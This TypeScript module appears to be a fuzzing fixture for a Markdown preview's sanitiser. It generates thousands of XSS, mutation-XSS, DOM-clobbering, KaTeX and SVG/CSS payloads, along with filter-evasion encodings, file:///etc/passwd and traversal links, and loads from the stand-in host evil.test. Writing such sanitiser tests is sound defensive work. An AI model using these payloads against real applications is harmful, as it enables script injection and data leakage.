/** Hostile Markdown and HTML, made by a grammar: element × attribute × scheme × encoding, and what broke other previews. */

/** Run by a payload that gets through. */
export const PROOF = 'window.ran=(window.ran||0)+1';
/** Asked for by one that loads something. */
const BAIT = 'https://evil.test/x';

const LOADING_ELEMENTS = [
  'img', 'image', 'svg', 'iframe', 'frame', 'embed', 'object', 'video', 'audio', 'source', 'track', 'link', 'script', 'input', 'body', 'table', 'td', 'th', 'base', 'meta', 'form', 'button', 'a', 'area', 'math', 'portal', 'bgsound', 'applet',
  'picture', 'details', 'div', 'marquee', 'use', 'feImage', 'animate', 'set', 'foreignObject', 'template', 'x-custom',
];
const LOADING_ATTRIBUTES = ['src', 'href', 'xlink:href', 'srcset', 'background', 'poster', 'data', 'action', 'formaction', 'lowsrc', 'dynsrc', 'ping', 'manifest', 'style', 'srcdoc', 'content', 'to', 'values', 'imagesrcset'];
const HANDLERS = [
  'onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onbegin', 'onpageshow', 'onscroll', 'onfocusin', 'onpointerenter', 'onwheel', 'onbeforematch',
  'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'onauxclick',
];
const SCHEMES = ['javascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'command:', 'vscode:', 'file:///', 'blob:', 'https://evil.test/', '//evil.test/', '\\\\evil.test\\', 'http:evil.test', 'ftp://evil.test/', 'about:'];

/** Ways to write the same address so that a check by eye or by expression misses it. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((character) => `&#${character.codePointAt(0)};`).join(''),
  (text) => [...text].map((character) => `&#x${character.codePointAt(0)!.toString(16).padStart(6, '0')}`).join(';') + ';',
  (text) => text.replace(/:/, '&colon;'),
  (text) => text.replace(/^(..)/, '$1&Tab;'),
  (text) => text.replace(/^(..)/, '$1&NewLine;'),
  (text) => text.replace(/^(..)/, '$1\t'),
  (text) => `\u0001${text}`,
  (text) => ` ${text}`,
  (text) => text.replace(/([a-z])/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/:/, '\u200b:'),
];

function value(scheme: string): string {
  if (scheme.startsWith('javascript') || scheme.startsWith('vbscript')) {
    return `${scheme}${PROOF}`;
  }
  if (scheme.startsWith('data:text')) {
    return `${scheme}<script>parent.${PROOF}</script>`;
  }
  return scheme.startsWith('data:image') ? `${scheme}<svg xmlns='http://www.w3.org/2000/svg' onload='${PROOF}'/>` : `${scheme}x`;
}

/** What other previews, sanitisers and parsers were broken by. */
const KNOWN: readonly string[] = [
  `<script>${PROOF}</script>`, `<script src="${BAIT}"></script>`, `<ScRiPt>${PROOF}</sCrIpT>`, `<script/x>${PROOF}</script>`, `<<script>${PROOF}//<</script>`, `<scr<script>ipt>${PROOF}</scr</script>ipt>`,
  `<meta http-equiv="refresh" content="0;url=${BAIT}">`, `<base href="${BAIT}/">`, `<form action="${BAIT}"><input name=attributes><button>x</button></form>`, `<form><input name=parentNode></form>`,
  `<a id=location href="${BAIT}">x</a>`, `<img name=getElementById>`, `<a id=acquireVsCodeApi></a>`, `<form id=document><input name=body></form>`, `<img name=cookie src=x>`,
  `<style>@import '${BAIT}';</style>`, `<style>body{background:url(${BAIT})}</style>`, `<div style="background:url(${BAIT})">x</div>`, `<link rel=stylesheet href="${BAIT}">`, `<link rel=prefetch href="${BAIT}">`,
  `<iframe srcdoc="<script>parent.${PROOF}</script>"></iframe>`, `<iframe src="javascript:parent.${PROOF}"></iframe>`, `<object data="${BAIT}"></object>`, `<embed src="${BAIT}">`,
  `<svg><script>${PROOF}</script></svg>`, `<svg onload="${PROOF}">`, `<svg><animate onbegin="${PROOF}" attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${PROOF}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${PROOF} /></svg>#x"></use></svg>`, `<svg><foreignObject><iframe src="javascript:${PROOF}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PROOF}&gt;">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${PROOF}>`,
  `<noscript><p title="</noscript><img src=x onerror=${PROOF}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${PROOF}>">`, `<textarea><p title="</textarea><img src=x onerror=${PROOF}>">`,
  `<template><img src=x onerror=${PROOF}></template>`, `<div><template shadowrootmode=open><img src=x onerror=${PROOF}></template></div>`, `<xmp><p title="</xmp><img src=x onerror=${PROOF}>">`,
  `<plaintext><img src=x onerror=${PROOF}>`, `<listing>&lt;img src=x onerror=${PROOF}&gt;</listing>`, `<select><style><img src=x onerror=${PROOF}></style></select>`, `<title><img src=x onerror=${PROOF}></title>`,
  `<!--><img src=x onerror=${PROOF}>-->`, `<!-- --!><img src=x onerror=${PROOF}> -->`, `<![CDATA[><img src=x onerror=${PROOF}>]]>`, `<?xml ><img src=x onerror=${PROOF}> ?>`, `</p title="<img src=x onerror=${PROOF}>">`,
  `<img src="x\`<script>${PROOF}</script>"\`>`, `<img """><script>${PROOF}</script>">`, `<img src=x:x onerror=${PROOF}//`, `<img/src=x/onerror=${PROOF}>`, `<img src=x onerror\n=\n${PROOF}>`, `<details open ontoggle=${PROOF}><summary>x</summary></details>`,
  `<input autofocus onfocus=${PROOF}>`, `<video><source onerror=${PROOF}></video>`, `<audio src=x onerror=${PROOF}>`, `<marquee onstart=${PROOF}>x</marquee>`, `<body onload=${PROOF}>`, `<table background="${BAIT}"><tr><td background="${BAIT}">x</table>`,
  `<picture><source srcset="${BAIT}"><img src="${BAIT}"></picture>`, `<img srcset="${BAIT} 2x">`, `<video poster="${BAIT}"></video>`, `<input type=image src="${BAIT}">`, `<a ping="${BAIT}" href="#x">x</a>`, `<q cite="${BAIT}">x</q>`,
  `<isindex type=image src=1 onerror=${PROOF}>`, `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=${PROOF}>`, `<dialog open onclose=${PROOF}><form method=dialog><button>x</button></form></dialog>`, `<frameset onload=${PROOF}></frameset>`,
  `[x](javascript:${PROOF})`, `[x](JaVaScRiPt:${PROOF})`, `[x](javascript&colon;${PROOF})`, `[x](  javascript:${PROOF})`, `[x](<javascript:${PROOF}>)`, `[x]\n\n[x]: javascript:${PROOF}`, `<javascript:${PROOF}>`, `![x](javascript:${PROOF})`,
  `![x](${BAIT})`, `![x](//evil.test/x)`, `![x][y]\n\n[y]: ${BAIT}`, `[![x](${BAIT})](javascript:${PROOF})`, `[x](command:workbench.action.quit)`, `[x](vscode://evil.test)`, `[x](data:text/html,<script>parent.${PROOF}</script>)`, `[x](file:///etc/passwd)`,
  `![x](../../../../../etc/passwd)`, `![x](%2e%2e/%2e%2e/secret.png)`, `![x](\\\\evil.test\\x.png)`, `![a"onerror="${PROOF}](x)`, `[a](x "\\"onmouseover=\\"${PROOF}")`, `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PROOF}'/>)`,
  `$<img src=x onerror=${PROOF}>$`, `$\\href{javascript:${PROOF}}{x}$`, `$\\url{javascript:${PROOF}}$`, `$\\includegraphics{${BAIT}}$`, `$\\htmlData{onclick=${PROOF}}{x}$`, `$\\htmlClass{hostile}{x}$`, `$\\htmlId{journal}{x}$`, `$\\htmlStyle{background:url(${BAIT})}{x}$`,
  `$\\unicode{<img src=1 onerror=${PROOF}>}$`, `$$\\def\\a{\\a\\a}\\a$$`, `$\\text{</span><img src=x onerror=${PROOF}>}$`, `$\\%<img src=a onerror=${PROOF}>%$`, '```math\n</div><img src=x onerror=' + PROOF + '>\n```',
  '```js"><img src=x onerror=' + PROOF + '>\nx\n```', '```html\n<img src=x onerror=' + PROOF + '>\n```', '`<img src=x onerror=' + PROOF + '>`', `[^x]\n\n[^x]: <img src=x onerror=${PROOF}>`, `[^"><img src=x onerror=${PROOF}>]\n\n[^"><img src=x onerror=${PROOF}>]: x`,
  `> [!NOTE]\n> <img src=x onerror=${PROOF}>`, `- [ ] <img src=x onerror=${PROOF}>`, `- [ ]<input type=checkbox onclick=${PROOF} checked> x`, `| a |\n|---|\n| <img src=x onerror=${PROOF}> |`, `# <img src=x onerror=${PROOF}>`, `https://a.org/"onmouseover="${PROOF}`,
  `www.a.org/<img src=x onerror=${PROOF}>`, `ann@a.org"onmouseover="${PROOF}`, `<wbr data-edge="end">`, `<span data-math="inline">x</span><div class="diagram" data-source="graph LR; a-->b"></div>`, `<input type=checkbox class=task data-task=1>`,
];

/** At least two thousand of them; the same each time. */
export function payloads(): string[] {
  const made: string[] = [...KNOWN];
  let encoding = 0;
  for (const element of LOADING_ELEMENTS) {
    for (const attribute of LOADING_ATTRIBUTES) {
      for (let step = 0; step < 2; step++) {
        const scheme = SCHEMES[(made.length + 5 * step) % SCHEMES.length]!;
        const written = ENCODINGS[encoding++ % ENCODINGS.length]!(value(scheme));
        const quoted = made.length % 3 === 0 ? `"${written.replaceAll('"', '&quot;')}"` : made.length % 3 === 1 ? `'${written.replaceAll("'", '&#39;')}'` : written.replaceAll(/[\s>]/g, '');
        made.push(`<${element} ${attribute}=${attribute === 'style' ? `"background:url(${written.replaceAll('"', '')})"` : quoted}>${element}</${element}>`);
      }
    }
    for (const handler of HANDLERS) {
      made.push(`<${element} ${made.length % 2 === 0 ? handler : handler.toUpperCase()}="${PROOF}" tabindex=0 autofocus src=x href=#>${element}</${element}>`);
    }
  }
  for (const scheme of SCHEMES) {
    for (const encode of ENCODINGS) {
      made.push(`[x](<${encode(value(scheme)).replaceAll(/[<>\n]/g, '')}>)`, `<a href="${encode(value(scheme)).replaceAll('"', '&quot;')}">x</a>`);
    }
  }
  return made;
}

/** The places a payload can stand in. */
export const PLACES: Readonly<Record<string, (payload: string) => string>> = {
  alone: (payload) => `${payload}\n`,
  list: (payload) => `- item\n- ${payload.replaceAll('\n', '\n  ')}\n`,
  summary: (payload) => `<details open>\n<summary>${payload.replaceAll('\n', ' ')}</summary>\n\ntext\n\n</details>\n`,
  table: (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll('\n', ' ').replaceAll('|', '\\|')} | c |\n`,
  heading: (payload) => `## ${payload.replaceAll('\n', ' ')}\n`,
};

/** So many of the grammar's payloads in one piece: all of them are closed. */
const TOGETHER = 10;

/** All payloads at one place, as pieces of a file. What broke others has a piece of its own, since it may leave something open. */
export function hostilePieces(put: (payload: string) => string): string[] {
  const all = payloads().map((payload) => `${put(payload)}\n`);
  const pieces = all.slice(0, KNOWN.length);
  for (let at = KNOWN.length; at < all.length; at += TOGETHER) {
    pieces.push(all.slice(at, at + TOGETHER).join(''));
  }
  return pieces;
}

/**
 * As labels of nodes, and of edges where an edge is as likely to be read otherwise.
 * @param wrapped broken into lines as usual, else each in one.
 * @param mark label of one more node, by which the drawing is known.
 */
export function diagramWith(some: readonly string[], wrapped: boolean, mark: string): string {
  const lines = some.map((payload, index) => {
    // A backtick at the start would make the label Markdown.
    const label = payload.replaceAll('\n', ' ').replaceAll('"', '#quot;').replace(/^`/, '#96;');
    return index % 5 === 0 ? `  a${index} -- "${label}" --> b${index}\n` : `  a${index}["${label}"]\n`;
  });
  return `\`\`\`mermaid\n${wrapped ? '' : '%%{init: {"flowchart": {"wrappingWidth": 100000}}}%%\n'}flowchart LR\n  mark["${mark}"]\n${lines.join('')}\`\`\`\n`;
}

/** What SVG has of its own to load, lead and run with. */
export const IN_SVG: readonly string[] = [
  `<script>${PROOF}</script>`, `<script href="data:text/javascript,${PROOF}"/>`, `<a href="javascript:${PROOF}"><text y="9">x</text></a>`, `<a xlink:href="${BAIT}"><text y="9">x</text></a>`, `<image href="${BAIT}" width="9" height="9"/>`,
  `<image xlink:href="${BAIT}" width="9" height="9"/>`, `<use href="${BAIT}#x"/>`, `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${BAIT}"/></foreignObject>`, `<feImage href="${BAIT}"/>`,
  `<rect width="9" height="9" onclick="${PROOF}"/>`, `<g onload="${PROOF}"/>`, `<animate attributeName="x" dur="1s" onbegin="${PROOF}"/>`, `<set attributeName="href" to="javascript:${PROOF}"/>`,
  `<style>@import "${BAIT}";</style>`, `<style>#journal { background: url(${BAIT}) }</style>`, `<style>#journal { background: URL( '${BAIT}' ) }</style>`, `<style>#journal { background: u\\72l(${BAIT}) }</style>`,
  `<style>#journal { background: image-set("${BAIT}" 1x) }</style>`, `<style>#journal { background: -webkit-image-set(url(${BAIT}) 1x) }</style>`, `<style>@font-face { font-family: x; src: url(${BAIT}) } text { font-family: x }</style><text y="9">x</text>`,
  `<rect width="9" height="9" style="background: url(${BAIT})"/>`, `<rect width="9" height="9" style="mask: u\\72l(${BAIT}#x)"/>`, `<rect width="9" height="9" style="background: image-set('${BAIT}' 1x)"/>`, `<rect width="9" height="9" filter="url(${BAIT}#x)"/>`,
  `<rect width="9" height="9" cursor="url(${BAIT}), auto"/>`, `<title><img src="${BAIT}"></title>`, `<desc><style><img src=x onerror=${PROOF}></style></desc>`,
];

/** Drawings with a payload each, or, of the grammar's, with many. */
export function hostileDrawings(): string[] {
  const all = payloads();
  const inside = [...IN_SVG, ...all.slice(0, KNOWN.length)];
  for (let at = KNOWN.length; at < all.length; at += 100) {
    inside.push(all.slice(at, at + 100).join(''));
  }
  return inside.map((payload) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" viewBox="0 0 10 10"><g>${payload}</g></svg>`);
}
